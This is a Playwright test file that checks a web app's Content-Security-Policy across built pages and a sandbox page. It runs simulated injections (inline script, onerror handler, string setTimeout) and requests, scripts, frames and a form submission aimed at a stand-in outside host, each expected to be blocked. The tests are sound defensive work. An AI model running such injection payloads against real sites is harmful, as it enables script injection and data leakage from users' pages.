/** The Content-Security-Policy that stands in every page. All other tests run under it: what it stops fails them. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test as base, type Page } from '@playwright/test';
import { expect, test, watch } from './fixtures';

const BUILD = join(__dirname, '../../build');
const HTML = readdirSync(BUILD, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.html'));

const directives = (policy: string): Map<string, string[]> =>
  new Map(
    policy
      .split(';')
      .map((each) => each.trim().split(/\s+/))
      .map(([name, ...sources]) => [name!, sources]),
  );

const policyIn = (html: string): { policy: string; before: string } => {
  const found = /<meta http-equiv="?Content-Security-Policy"? content="([^"]*)"/i.exec(html)!;
  return { policy: found[1]!, before: html.slice(0, found.index) };
};

test('every page has the same one, before anything that it is about', () => {
  const pages = HTML.filter((name) => !/^py\//.test(name)).map((name) => readFileSync(join(BUILD, name), 'utf8'));
  expect(pages.length).toBeGreaterThan(100);
  for (const html of pages)
    expect(policyIn(html).before.replace(/<!doctype html>\s*<html[^>]*>\s*<head>/i, '')).toMatch(
      /^<meta charset="?UTF-8"?>$/i,
    );
  expect(new Set(pages.map((html) => policyIn(html).policy)).size).toBe(1);
  expect(readFileSync(join(BUILD, 'content-security-policy.txt'), 'utf8').trim()).toBe(policyIn(pages[0]!).policy);
});

test('it allows no text to become a program, and no other origin', () => {
  const found = directives(policyIn(readFileSync(join(BUILD, 'index.html'), 'utf8')).policy);
  const scripts = found.get('script-src')!;
  expect(scripts.filter((source) => !source.startsWith("'sha256-"))).toEqual(["'self'", "'wasm-unsafe-eval'", 'blob:']);
  const origins = [...found.values()].flat().filter((source) => !/^'.*'$/.test(source));
  expect(new Set(origins)).toEqual(new Set(['blob:', 'data:']));
});

test('the sandbox is a file that may ask for nothing', () => {
  const [name, ...others] = HTML.filter((each) => /^py\//.test(each));
  expect(others).toEqual([]);
  const { policy, before } = policyIn(readFileSync(join(BUILD, name!), 'utf8'));
  expect(before).toBe('<!doctype html>');
  const found = directives(policy);
  expect(found.get('default-src')).toEqual(["'none'"]);
  expect([...found.keys()].sort()).toEqual(['default-src', 'script-src', 'worker-src']);
});

/** What a page that somebody else's text got into would try. */
const attacks: Record<string, (page: Page) => Promise<unknown>> = {
  'a script in the text': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.taken = true';
      document.body.append(script);
    }),
  'a handler in the text': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.taken = true">');
    }),
  'a program of a text': (page) =>
    page.evaluate(() => {
      const button = document.body.appendChild(document.createElement('button'));
      button.addEventListener('click', () => void setTimeout('window.taken = true'));
      button.click();
    }),
  'a script of another origin': (page) =>
    page.evaluate(() => {
      document.body.appendChild(document.createElement('script')).src = 'https://elsewhere.example/a.js';
    }),
  'a request to another origin': (page) =>
    page.evaluate(() => void fetch('https://elsewhere.example/').catch(() => undefined)),
  'a picture of another origin': (page) =>
    page.evaluate(() => void (new Image().src = 'https://elsewhere.example/a.png')),
  'a frame of another origin': (page) =>
    page.evaluate(() => {
      document.body.appendChild(document.createElement('iframe')).src = 'https://elsewhere.example/';
    }),
  'another base for addresses': (page) =>
    page.evaluate(() => {
      document.head.appendChild(document.createElement('base')).href = 'https://elsewhere.example/';
    }),
  'a form to another origin': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<form action="https://elsewhere.example/"><input name="a"></form>',
      );
      document.querySelector<HTMLFormElement>('form[action^="https://elsewhere"]')!.submit();
    }),
};

for (const [name, attack] of Object.entries(attacks)) {
  base(`${name}: nothing comes of it, and a test would notice`, async ({ page, context, baseURL }) => {
    const asked: string[] = [];
    await context.route('https://elsewhere.example/**', async (route) => {
      asked.push(route.request().url());
      await route.abort();
    });
    const problems = watch(page, context, baseURL!);
    await page.goto('assignment/');
    await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true');
    expect(problems).toEqual([]);
    await attack(page);
    await expect.poll(() => problems.join('\n')).toMatch(/Content Security Policy/);
    expect(await page.evaluate(() => 'taken' in window)).toBe(false);
    expect(asked).toEqual([]);
  });
}
